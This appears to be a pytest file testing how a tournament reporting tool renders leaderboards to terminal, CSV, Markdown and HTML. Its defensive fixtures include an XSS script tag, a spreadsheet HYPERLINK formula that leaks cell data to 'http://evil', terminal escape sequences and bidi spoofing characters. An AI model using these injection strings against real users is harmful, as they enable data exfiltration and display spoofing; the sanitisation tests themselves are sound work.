import csv
import io
import json
import re
from html.parser import HTMLParser
from itertools import groupby

import pytest

from games.errors import UserError
from marl.base.terminal import Terminal
from tests.tournaments.eager import round_robin
from tournaments.records.fixture import Fixture
from tournaments.records.played import Failure, PlayedGame
from tournaments.records.results import Result
from tournaments.records.store import Store
from tournaments.reports import pairs
from tournaments.reports.report import print_leaderboard, write_report
from tournaments.reports.summary import summarize

NAMES = {"aa": "<script>alert('x')</script>", "bb": "[bold]a|b*c", "cc": "mcts(simulations=100)", "dd": "idle & new"}


class Page(HTMLParser):
    """Read what a browser would: the tags, which must close in order, their attributes, and the text."""

    def __init__(self, html):
        super().__init__()
        self.open, self.tags, self.attributes, self.text = [], [], [], []
        self.feed(html)
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs
        if tag not in ("meta",):
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        if "script" not in self.open:
            self.text.append(data)


def make_store(
    path,
    payoff="zero_sum",
    num_players=2,
    payoffs=((1, -1), (0, 0), (-1, 1)),
    termination="finished",
    step_rewards=False,
    self_play=False,
):
    store = Store(path, create=True)
    store.set("game", "openspiel:tic_tac_toe")
    store.set("spec", {"num_players": num_players, "payoff": payoff, "step_rewards": step_rewards})
    for id, name in NAMES.items():
        store.add_agent(id, name, name)
    fixtures = round_robin("g", ["aa", "bb", "cc"], num_players, seeds=9, seed=0, self_play=self_play)
    store.add(
        PlayedGame(fixture, tuple(map(float, payoffs[k % len(payoffs)])), termination, 5)
        for k, fixture in enumerate(fixtures)
    )
    return store


def printed(summary):
    console = Terminal(width=100, record=True, file=io.StringIO())
    print_leaderboard(console, summary)
    return console.export_text()


HOSTILE = {
    "aa": '=HYPERLINK("http://evil/?x="&A1,"ok")',
    "bb": "\x1b]0;pwned\x07\x1b[2Jclear \x9b",
    "cc": "@SUM(1+1)|x\n| `y` | $z$",
    "dd": "exe\u202etxt\u200b[/red]{{7*7}}",
}
KINDS = (
    {},
    {"payoff": "general_sum", "self_play": True},
    {"payoff": "team", "num_players": 3, "payoffs": [(1.0, 1.0, -1.0)]},
)


@pytest.mark.parametrize("kind", KINDS)
def test_names_are_no_commands_no_formulas_and_no_rows(tmp_path, kind):
    with make_store(tmp_path / "s", **kind) as store:
        for id, name in HOSTILE.items():
            store.add_agent(id, name, name)
        store.set("game", "game \x1b[2J | x")
        summary = summarize(store)
    paths = write_report(summary, tmp_path)
    shown = printed(summary)
    markdown, table, html = (
        paths[name].read_text(encoding="utf-8") for name in ("leaderboard.md", "leaderboard.csv", "report.html")
    )
    assert not any(set(text) & set("\x1b\x07\x9b\u202e\u200b") for text in (shown, markdown, table, html))
    assert all(
        name in shown for name in (HOSTILE["aa"], r"\x1b]0;pwned\x07\x1b[2Jclear \x9b", r"@SUM(1+1)|x\n| `y` | $z$")
    )
    tables = [list(rows) for row, rows in groupby(markdown.splitlines(), lambda line: line.startswith("|")) if row]
    columns = [{len(re.findall(r"(?<!\\)\|", line)) for line in rows} for rows in tables]
    assert columns and all(len(each) == 1 and min(each) > 2 for each in columns)
    rows = list(csv.DictReader(table.splitlines()))
    assert all(cell[0] not in "=+@\t\r" for row in rows for cell in row.values() if cell)
    assert {f"'{HOSTILE['aa']}", r"'@SUM(1+1)|x\n| `y` | $z$"} <= {row["agent"] for row in rows}
    page = Page(html)
    assert HOSTILE["aa"] in page.text and r"\x1b]0;pwned\x07\x1b[2Jclear \x9b" in page.text
    json.dumps(summary.to_json(), allow_nan=False)


def test_numbers_below_zero_stay_numbers(tmp_path):
    with make_store(tmp_path / "s") as store:
        table = write_report(summarize(store), tmp_path)["leaderboard.csv"].read_text(encoding="utf-8")
    assert min(float(row["elo"]) for row in csv.DictReader(table.splitlines())) < 0


@pytest.mark.parametrize("kind", KINDS)
def test_the_page_fits_a_narrow_screen(tmp_path, kind):
    """Names wrap, and a table scrolls in a box of its own: the page is as wide as its window."""
    with make_store(tmp_path / "s", **kind) as store:
        html = write_report(summarize(store), tmp_path)["report.html"].read_text(encoding="utf-8")
    assert html.count("<table") == html.count('<div class="scroll"><table') > 1
    assert 'name="viewport" content="width=device-width, initial-scale=1"' in html
    style = html[html.index("<style>") : html.index("</style>")]
    assert "overflow-wrap: anywhere" in style and ".scroll { overflow-x: auto; }" in style
    assert re.search(r"\.name \{[^}]*white-space: normal", style) and "@media (max-width: 40rem)" in style


def test_files(tmp_path):
    with make_store(tmp_path / "s") as store:
        summary = summarize(store)
    first, second = write_report(summary, tmp_path / "one"), write_report(summary, tmp_path / "two" / "deep")
    data = summary.to_json()
    assert sorted(first) == ["leaderboard.csv", "leaderboard.md", "pairs.csv", "report.html"]
    assert all(first[name].read_bytes() == second[name].read_bytes() for name in first)
    rows = list(csv.DictReader(first["leaderboard.csv"].read_text(encoding="utf-8").splitlines()))
    assert [row["agent"] for row in rows] == [rating["agent"] for rating in data["ratings"]]
    assert float(rows[0]["elo"]) == data["ratings"][0]["elo"] and rows[0]["prior_dominated"] == "false"


def test_page(tmp_path):
    with make_store(tmp_path / "s") as store:
        html = write_report(summarize(store), tmp_path)["report.html"].read_text(encoding="utf-8")
    page = Page(html)
    text = " ".join("".join(page.text).split())
    assert set(page.tags).isdisjoint({"link", "img", "iframe"}) and page.tags.count("script") == 1  # sorts columns
    assert "src" not in dict(page.attributes)
    assert not re.search(r"https?://|url\(|@import", html)  # nothing from outside
    assert NAMES["aa"] in text and NAMES["bb"] in text and "openspiel:tic_tac_toe" in text
    assert page.tags.count("svg") == 3 and page.tags.count("circle") == 3
    titles = [value for name, value in page.attributes if name == "title"]
    assert sum("won, " in title and "of 18" in title for title in titles) == 6  # the cross table
    assert sum("; likelihood 0." in title for title in titles) == 6
    assert "first seat" in text and "of games drawn" in text and "standard deviation of 2 logits (347 Elo)" in text
    assert "Not played yet: idle & new." in text


def test_pairs_of_rated_agents(tmp_path):
    with make_store(tmp_path / "s") as store:
        store.add_agent("aa", HOSTILE["aa"], "")
        summary = summarize(store)
    lines = list(csv.DictReader(io.StringIO(write_report(summary, tmp_path)["pairs.csv"].read_text(encoding="utf-8"))))
    first, second, third = ("'" + name if name == HOSTILE["aa"] else name for name in summary.agents)
    assert [(p["agent"], p["other"]) for p in lines] == [(first, second), (first, third), (second, third)]
    for pair, (i, j) in zip(lines, [(0, 1), (0, 2), (1, 2)], strict=True):
        assert [int(pair[key]) for key in ("won", "drawn", "lost")] == summary.wdl[i, j].tolist()
        assert int(pair["games"]) == 18 and float(pair["score"]) == pytest.approx(summary.wdl[i, j] @ [1, 0.5, 0] / 18)
        gap, half = summary.ratings.difference(summary.agents[i], summary.agents[j])
        assert (float(pair["elo_difference"]), float(pair["ci95"])) == pytest.approx((gap, half), abs=1e-3)
        assert float(pair["superiority"]) == pytest.approx(summary.ratings.superiority[i, j], abs=1e-6)


def test_pairs_of_paid_agents(tmp_path):
    with make_store(tmp_path / "s", "general_sum", 2, [(3.0, 1.0), (-5.0, -5.0)], self_play=True) as store:
        summary = summarize(store)
    lines = list(csv.DictReader(io.StringIO(write_report(summary, tmp_path)["pairs.csv"].read_text(encoding="utf-8"))))
    table = summary.matchups
    assert [(p["agent"], p["other"]) for p in lines] == [(a, b) for a in table.agents for b in table.agents]
    assert [float(p["payoff"]) for p in lines] == pytest.approx(table.payoff.ravel().tolist(), abs=1e-6)
    assert [float(p["welfare"]) for p in lines] == pytest.approx(table.welfare.ravel().tolist(), abs=1e-6)
    assert [p["best_response"] == "true" for p in lines] == table.best.ravel().tolist()
    assert {int(p["games"]) for p in lines} == {9, 18}


@pytest.mark.parametrize("payoff", ["zero_sum", "general_sum"])
def test_tables_have_the_first_agents_and_say_where_the_others_are(tmp_path, monkeypatch, payoff):
    monkeypatch.setattr(pairs, "MOST_SHOWN", 2)
    with make_store(tmp_path / "s", payoff, self_play=payoff == "general_sum") as store:
        summary = summarize(store)
    files = write_report(summary, tmp_path)
    html, markdown = (files[name].read_text(encoding="utf-8") for name in ("report.html", "leaderboard.md"))
    said = 'The first 2 of 3 agents; <a href="pairs.csv">pairs.csv</a> has every pair.'
    assert html.count(said) == 2 and html.count('class="matrix"') == 2
    assert html.count('<th class="name" scope="row">') == 4  # two rows of two tables
    assert markdown.count("The first 2 of 3 agents") == (2 if payoff == "general_sum" else 0)
    assert len(files["pairs.csv"].read_text(encoding="utf-8").splitlines()) == (10 if payoff == "general_sum" else 4)
    cells = Page(html).attributes
    assert sum(name == "title" and "against" in value for name, value in cells) == (8 if payoff == "general_sum" else 2)


def test_terminal_and_markdown(tmp_path):
    with make_store(tmp_path / "s") as store:
        summary = summarize(store)
    shown = printed(summary)
    markdown = write_report(summary, tmp_path)["leaderboard.md"].read_text(encoding="utf-8")
    assert NAMES["bb"] in shown and "±95 %" in shown and "first seat is worth" in shown
    assert r"\[bold\]a\|b\*c" in markdown and "<script" not in markdown


@pytest.mark.parametrize("payoff, word", [("general_sum", "general-sum"), ("team", "as a team")])
def test_games_of_three_without_elo(tmp_path, payoff, word):
    with make_store(tmp_path / "s", payoff, 3, [(3.0, 1.0, 2.0)]) as store:
        summary = summarize(store)
    paths = write_report(summary, tmp_path)
    data = summary.to_json()
    assert list(data) == ["game", "opening_moves", "rating_rule", "reason", "payoffs"]
    assert data["rating_rule"] == "payoff" and word in data["reason"]
    assert len(data["payoffs"]) == 3 * (1 + 3)
    assert word in printed(summary)
    page = Page(paths["report.html"].read_text(encoding="utf-8"))
    text = " ".join("".join(page.text).split())
    assert word in text and "seat 1" in text and "svg" not in page.tags and "Match-ups" not in text
    assert word in paths["leaderboard.md"].read_text(encoding="utf-8")
    assert paths["leaderboard.csv"].read_text(encoding="utf-8").startswith("agent,seat,mean,ci95,games\n")


def test_games_of_three_with_elo(tmp_path):
    with make_store(tmp_path / "s", "zero_sum", 3, [(3.0, 1.0, -4.0), (1.0, 1.0, -2.0), (0.0, 2.0, -2.0)]) as store:
        summary = summarize(store)
    first, second = write_report(summary, tmp_path / "one"), write_report(summary, tmp_path / "two")
    assert all(first[name].read_bytes() == second[name].read_bytes() for name in first) and "pairs.csv" in first
    data = json.loads(json.dumps(summary.to_json(), allow_nan=False))
    assert data["rating_rule"] == "rank" and len(data["seats"]) == 3 and len(data["payoffs"]) == 3 * (1 + 3)
    assert summary.wdl.sum() == 2 * 3 * len(summary.results) and (summary.wdl[0, 1, ::-1] == summary.wdl[1, 0]).all()
    page = Page(first["report.html"].read_text(encoding="utf-8"))
    text = " ".join("".join(page.text).split())
    for shown in (printed(summary), first["leaderboard.md"].read_text(encoding="utf-8"), text):
        assert "seat 2: -" in " ".join(shown.split()) and "mean payoff" in " ".join(shown.split())
    assert "Plackett" in text and "Cross table" in text and "seat effect" not in text
    [*rows] = csv.DictReader(first["leaderboard.csv"].read_text(encoding="utf-8").splitlines())
    assert [row["agent"] for row in rows] == list(summary.agents) and {row["elo_without_forfeits"] for row in rows} == {
        ""
    }


def test_seats_of_partners_are_named(tmp_path):
    with make_store(tmp_path / "s", "zero_sum", 4, [(1.0, -1.0, 1.0, -1.0), (-2.0, 2.0, -2.0, 2.0)]) as store:
        summary = summarize(store)
    assert any("partners do: 0 and 2, 1 and 3." in warning for warning in summary.warnings)


def test_a_store_without_games_of_three(tmp_path):
    with Store(tmp_path / "s", create=True) as store:
        store.set("game", "g")
        store.set("spec", {"num_players": 3, "payoff": "zero_sum", "step_rewards": False})
        summary = summarize(store)
    assert summary.to_json()["rating_rule"] == "rank" and "No game has a result" in printed(summary)
    write_report(summary, tmp_path)


@pytest.mark.parametrize("num_players", [2, 3])
def test_ratings_with_and_without_forfeits_stand_beside_each_other(tmp_path, num_players):
    """cc forfeits what it plays in seat 0; dd plays one game, which it forfeits."""
    pays = [(3.0, 1.0), (1.0, 3.0)] if num_players == 2 else [(3.0, 1.0, -4.0), (0.0, 2.0, -2.0)]
    with make_store(tmp_path / "s", "zero_sum", num_players, pays) as store:
        games = [*store.games()]
        lost = [
            PlayedGame(
                Fixture("g", game.fixture.agents, game.fixture.seed + 1000),
                (-9.0, *[9.0 / (num_players - 1)] * (num_players - 1)),
                "timeout",
                5,
                failures=(Failure(0, "timeout", "took too long", 1),),
            )
            for game in games
            if game.fixture.agents[0] == "cc"
        ]
        table = ("dd", "aa", "bb")[:num_players]
        failure = (Failure(0, "illegal_action", "chose 9", 1),)
        lost.append(
            PlayedGame(Fixture("g", table, 7), (-9.0, 9.0, 0.0)[:num_players], "illegal_action", 5, failures=failure)
        )
        before = summarize(store)
        store.add(lost)
        summary = summarize(store)
    assert before.clean is None and "without_forfeits" not in before.to_json() and "Elo without" not in printed(before)
    assert summary.clean is not None and summary.to_json()["without_forfeits"] == before.ratings.to_json()
    clean = {rating.agent: rating.elo for rating in before.ratings.ratings}
    cc = NAMES["cc"]
    forfeited = next(rating for rating in summary.ratings.ratings if rating.agent == cc)
    assert forfeited.elo < clean[cc] - 20
    paths = write_report(summary, tmp_path)
    [*rows] = csv.DictReader(paths["leaderboard.csv"].read_text(encoding="utf-8").splitlines())
    shown = {row["agent"]: row["elo_without_forfeits"] for row in rows}
    assert shown.pop(NAMES["dd"]) == "" and shown == {agent: f"{elo:.3f}" for agent, elo in clean.items()}
    page = " ".join("".join(Page(paths["report.html"].read_text(encoding="utf-8")).text).split())
    for text in (printed(summary), paths["leaderboard.md"].read_text(encoding="utf-8"), page):
        assert "Elo without forfeits" in " ".join(text.split())


@pytest.mark.parametrize("payoff, word", [("general_sum", "general-sum"), ("team", "as a team")])
def test_games_of_two_without_elo(tmp_path, payoff, word):
    pays = [(3.0, 1.0), (-5.0, -5.0)]
    with make_store(tmp_path / "s", payoff, 2, pays, "truncated", step_rewards=True, self_play=True) as store:
        summary = summarize(store)
    first, second = write_report(summary, tmp_path / "one"), write_report(summary, tmp_path / "two")
    assert all(first[name].read_bytes() == second[name].read_bytes() for name in first)
    data = summary.to_json()
    assert data["rating_rule"] == "payoff" and word in data["reason"] and data["matchups"]["unit"] == "step"
    assert [line["agent"] for line in data["matchups"]["standings"]] == data["matchups"]["agents"] == [*summary.agents]
    json.dumps(data, allow_nan=False)

    markdown, table, html = (
        first[name].read_text(encoding="utf-8") for name in ("leaderboard.md", "leaderboard.csv", "report.html")
    )
    shown = printed(summary)
    for text in (shown, markdown, html):
        assert word in text and "payoff per step" in text and "cross-play" in text
        assert "per step (a game has 5)" in text and "Best response to the pool: " in text
    assert "games were truncated" not in shown  # all games were: this game has no end
    assert "| best response | " in markdown and "<script" not in markdown and r"\[bold\]a\|b\*c" in markdown
    [*rows] = csv.DictReader(table.splitlines())
    assert [row["agent"] for row in rows] == [*summary.agents] and {row["unit"] for row in rows} == {"step"}
    assert float(rows[0]["payoff"]) == pytest.approx(data["matchups"]["standings"][0]["payoff"], abs=1e-6)

    page = Page(html)
    titles = [value for name, value in page.attributes if name == "title" and " per step, " in value]
    assert len(titles) == 2 * 9 and sum(", 9 games" in title for title in titles) == 2 * 3  # a mirror game once a seed
    assert NAMES["aa"] in "".join(page.text) and page.tags.count("b") == 2 + int(summary.matchups.best.sum())


def test_a_pairing_without_a_game_is_left_open_and_said(tmp_path):
    with make_store(tmp_path / "s", "general_sum") as store:  # as tournaments were played before self-play was
        summary = summarize(store)
    page = Page(write_report(summary, tmp_path)["report.html"].read_text(encoding="utf-8"))
    assert "payoff per game" in printed(summary) and summary.matchups.missing == 3
    assert "without a game, self-play included: 3" in " ".join(summary.warnings)
    assert "a round robin of all these agents plays them" in " ".join(summary.warnings)  # another schedule may not
    assert "marl tournament report" not in printed(summary) and summary.refused.endswith("shows what was paid.")
    assert page.attributes.count(("class", "none")) == 2 * 3
    assert [line["self_play"] for line in summary.to_json()["matchups"]["standings"]] == [None] * 3


def board(summary, terminal):
    """Return the names on a leaderboard 80 columns wide, the rest of its rows, and how long its lines are."""
    console = Terminal(width=80, force_terminal=terminal, color_system=None, file=io.StringIO())
    print_leaderboard(console, summary)
    header, *lines = [line for line in console.file.getvalue().splitlines() if line.startswith(" ")]
    cells = [line[header.index("agent") :].split() for line in lines]
    return [name for name, *_ in cells], [numbers for _, *numbers in cells if numbers], [*map(len, lines)]


@pytest.mark.parametrize("payoff, num_players", [("zero_sum", 2), ("team", 2), ("zero_sum", 3)])
def test_names_and_numbers_are_whole(tmp_path, payoff, num_players):
    """A row is a line in a pipe; on a terminal names fold, and numbers are never broken."""
    pays = [(-0.125, 0.25, 0.75)[:num_players], (0.0, -0.5, 1.0)[:num_players]]
    with make_store(tmp_path / "s", payoff, num_players, pays, self_play=num_players == 2) as store:
        for id in ("aa", "bb", "cc"):
            store.add_agent(id, name := f"shaping-1_actor_hidden-{id}_critic_hidden-32_population-8", name)
        summary = summarize(store)
    names, numbers, lengths = board(summary, terminal=False)
    assert names == [*summary.agents] and min(lengths) > 80
    folded, whole, lengths = board(summary, terminal=True)
    assert len(folded) > 3 and "".join(folded) == "".join(names) and max(lengths) <= 80
    assert whole == numbers and len(whole) == 3


def test_who_breaks_off_every_game_is_last_even_if_no_game_is_left(tmp_path):
    """C has forfeited every game of three, so that none says what A or B are worth."""
    with make_store(tmp_path / "s", "team", 3, [(0, 0, 0)]) as store:
        store._db.execute("DELETE FROM games")
        nan = float("nan")
        for fixture in round_robin("g", ["aa", "bb", "cc"], 3, seeds=2, seed=0):
            paid = tuple(-1.0 if agent == "cc" else nan for agent in fixture.agents)
            store.add([PlayedGame(fixture, paid, "agent_error", 1)])
        summary = summarize(store)
    assert summary.agents == (NAMES["aa"], NAMES["bb"], NAMES["cc"])
    assert {e.agent: e.forfeited for e in summary.endings} == {NAMES["aa"]: 0, NAMES["bb"]: 0, NAMES["cc"]: 6}
    json.dumps(summary.to_json(), allow_nan=False)
    paths = write_report(summary, tmp_path)
    row = next(csv.DictReader(paths["leaderboard.csv"].read_text(encoding="utf-8").splitlines()))
    assert (row["agent"], row["seat"], row["mean"], row["games"]) == (NAMES["aa"], "all", "", "0")
    assert any(NAMES["aa"] in line and "—" in line for line in printed(summary).splitlines())


def test_a_forfeit_counts_for_who_broke_the_game_off_though_both_were_paid_the_same(tmp_path):
    with make_store(tmp_path / "s", payoffs=[(1, -1)]) as store:
        store._db.execute("DELETE FROM games")
        for fixture in round_robin("g", ["aa", "bb"], 2, seeds=3, seed=0):
            failure = Failure(fixture.agents.index("bb"), "timeout", "took too long", 4)
            store.add([PlayedGame(fixture, (0.0, 0.0), "timeout", 5, failures=(failure,))])
        store.add([PlayedGame(Fixture("g", ("aa", "bb"), 1), (2.0, -2.0), "resigned", 5)])
        summary = summarize(store)
    assert {e.agent: e.forfeited for e in summary.endings} == {NAMES["aa"]: 0, NAMES["bb"]: 6}
    assert summary.never_finished == {}  # who resigned has played to an end
    assert summary.wdl[0, 1].tolist() == [7, 0, 0] and summary.agents[0] == NAMES["aa"]


def test_warnings(tmp_path):
    with make_store(tmp_path / "s", payoffs=[(1, -1)], termination="illegal_action") as store:
        store.add([PlayedGame(Fixture("g", ("dd", "ee"), 5), (1.0, -1.0), "truncated", 5)])
        summary = summarize(store)
    page = Page(write_report(summary, tmp_path)["report.html"].read_text(encoding="utf-8"))
    shown = printed(summary)
    assert len(summary.ratings.parts) == 2
    for start in (
        "No games connect the 2 parts",
        "Some results in part 2 are one-sided",
        "1 of 55 games were truncated",
    ):
        assert any(warning.startswith(start) for warning in summary.warnings)
        assert f"warning: {start}" in shown
    assert any("illegal action" in warning and "(18)" in warning for warning in summary.warnings)
    assert "Part 2 of 2" in shown and "Leaderboard, part 2 of 2" in "".join(page.text)
    assert {e.agent: e.forfeited for e in summary.endings}[NAMES["aa"]] == 18


def test_deterministic_agents_that_repeat_one_game_are_said(tmp_path):
    with make_store(tmp_path / "s") as store:
        assert not any("repeated" in warning for warning in summarize(store).warnings)  # nine games a seating
        again = round_robin("g", ["aa", "bb"], 2, seeds=10, seed=1, self_play=False)
        store._db.execute("DELETE FROM games")
        store.add(PlayedGame(fixture, (1.0, -1.0), "finished", 5, b"\x01") for fixture in again)
        [warning] = [warning for warning in summarize(store).warnings if "repeated one game" in warning]
    assert ": 2. Each copy counts as a game of its own" in warning


def test_whose_games_are_set_aside_has_played(tmp_path):
    with make_store(tmp_path / "s", "team", 3, [(1, 1, 1)]) as store:
        store._db.execute("DELETE FROM games")
        copies, whole = (round_robin("g", who, 3, seeds=2, seed=0) for who in (["aa", "bb"], ["aa", "cc", "dd"]))
        store.add(PlayedGame(fixture, (1.0, 1.0, 1.0), "finished", 5) for fixture in copies)
        assert [w for w in summarize(store).warnings if "played" in w.lower()] == [
            f"Not played yet: {NAMES['dd']}, {NAMES['cc']}."
        ]
        store.add(PlayedGame(fixture, (1.0, 1.0, 1.0), "finished", 5) for fixture in whole)
        assert [w for w in summarize(store).warnings if "played" in w.lower()] == [
            f"Played only games with copies of an agent, which do not count any more: {NAMES['bb']}."
        ]


def test_an_empty_store(tmp_path):
    for payoff in ("zero_sum", "team"):
        with make_store(tmp_path / payoff, payoff) as store:
            store._db.execute("DELETE FROM games")
            summary = summarize(store)
        Page(write_report(summary, tmp_path)["report.html"].read_text(encoding="utf-8"))
        assert "Not played yet" in printed(summary)


def test_a_store_of_nothing_is_refused(tmp_path):
    with Store(tmp_path / "s", create=True) as store, pytest.raises(UserError, match="which game"):
        summarize(store)


SPEC = {"num_players": 2, "payoff": "zero_sum"}


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("game", 7),
        ("opening_moves", "x"),
        ("opening_moves", None),
        ("opening_moves", -1),
        ("spec", [SPEC]),
        ("spec", SPEC | {"num_players": "2"}),
        ("spec", SPEC | {"num_players": True}),
        ("spec", SPEC | {"payoff": "odd"}),
        ("spec", SPEC | {"return_bounds": [-1]}),
        ("spec", SPEC | {"return_bounds": [None, 1]}),
        ("spec", SPEC | {"step_rewards": "yes"}),
    ],
)
def test_facts_that_no_release_wrote_are_refused(tmp_path, key, value):
    with make_store(tmp_path / "s") as store:
        store.set(key, value)
        with pytest.raises(UserError, match="says which game it holds"):
            summarize(store)


def test_facts_that_are_not_of_the_games_are_refused(tmp_path):
    with make_store(tmp_path / "s") as store:
        store.set("spec", SPEC | {"num_players": 3})
        with pytest.raises(UserError, match=r"games of 3 players, .* got games of 2"):
            summarize(store)


def test_results_and_single_results_agree(tmp_path):
    with make_store(tmp_path / "s") as store:
        columns = store.results()
    rows = [
        Result(tuple(columns.agents[a] for a in seats), tuple(payoffs), int(seed), str(termination))
        for seats, payoffs, seed, termination in zip(
            columns.seats, columns.payoffs.tolist(), columns.seeds, columns.terminations, strict=True
        )
    ]
    again = type(columns).of(rows)
    assert again.agents == columns.agents and (again.seats == columns.seats).all()
    assert (again.seeds == columns.seeds).all() and (again.payoffs == columns.payoffs).all()


def rated_store(path, seeds, rounding=0.0, payoffs=((1.0, -1.0), (-1.0, 1.0), (0.0, 0.0)), bounds=(-1.0, 1.0)):
    """Store a round robin of three agents; `seeds` of each agent."""
    store = Store(path, create=True)
    store.set("game", "g")
    store.set("spec", {"num_players": 2, "payoff": "zero_sum", "return_bounds": bounds})
    for agent in seeds:
        store.add_agent(agent, agent, agent)
    for k, fixture in enumerate(round_robin("g", list(seeds), 2, max(seeds.values()), seed=0)):
        if k // (len(seeds) * (len(seeds) - 1)) < min(seeds[agent] for agent in fixture.agents):
            paid = payoffs[k % len(payoffs)]
            store.add([PlayedGame(fixture, paid, "finished", 4, rounding=rounding)])
    return store


def test_one_seed_shows_no_interval_and_says_why(tmp_path):
    with rated_store(tmp_path / "s", {"a": 1, "b": 1, "c": 1}) as store:
        summary = summarize(store)
    assert summary.warnings == [
        f"No intervals, since one seed shows no spread: {', '.join(summary.agents)}; play more seeds."
    ]
    files = write_report(summary, tmp_path / "report")
    page = Page(files["report.html"].read_text(encoding="utf-8"))
    assert "inf" not in "".join(page.text).replace("information", "") and "nan" not in "".join(page.text).lower()
    [first, *_] = csv.DictReader(files["leaderboard.csv"].read_text(encoding="utf-8").splitlines())
    assert first["ci95"] == "" and "± — Elo" in printed(summary)
    json.dumps(summary.to_json(), allow_nan=False)


def test_few_seeds_are_said_to_be_few(tmp_path):
    for seeds, said in (
        (4, "Long intervals, from fewer than 10 seeds: late; play more seeds."),
        (1, "No intervals, since one seed shows no spread: late; play more seeds."),
    ):
        with rated_store(tmp_path / str(seeds), dict.fromkeys("abcdefgh", 40) | {"late": seeds}) as store:
            assert said in summarize(store).warnings
    with rated_store(tmp_path / "enough", dict.fromkeys("abc", 10), payoffs=((0.0, 0.0),)) as store:
        assert summarize(store).warnings == []


ROUNDED = ((7.45e-9, -7.45e-9), (-1.1e-8, 1.1e-8))


def test_rounding_decides_no_game_whatever_release_stored_it(tmp_path):
    """Ledgers of dimes; an older store does not say how they were rounded, but how much its game pays at most."""
    for name, rounding in (("new", 1.4e-7), ("old", None)):
        with rated_store(tmp_path / name, {"a": 12, "b": 12, "c": 12}, rounding, ROUNDED) as store:
            summary = summarize(store)
        assert summary.ratings.draw_rate == 1 and abs(summary.ratings.seat_advantage) < 1e-6
        assert (summary.wdl[..., [0, 2]] == 0).all() and {r.score for r in summary.ratings.ratings} == {0.5}
        assert "100.0 % of games drawn" in printed(summary)


def test_a_small_difference_decides(tmp_path):
    for rounding in (1.4e-7, None):
        with rated_store(tmp_path / str(rounding), {"a": 2, "b": 2}, rounding, [(1e-4, -1e-4)], None) as store:
            assert summarize(store).ratings.draw_rate == 0
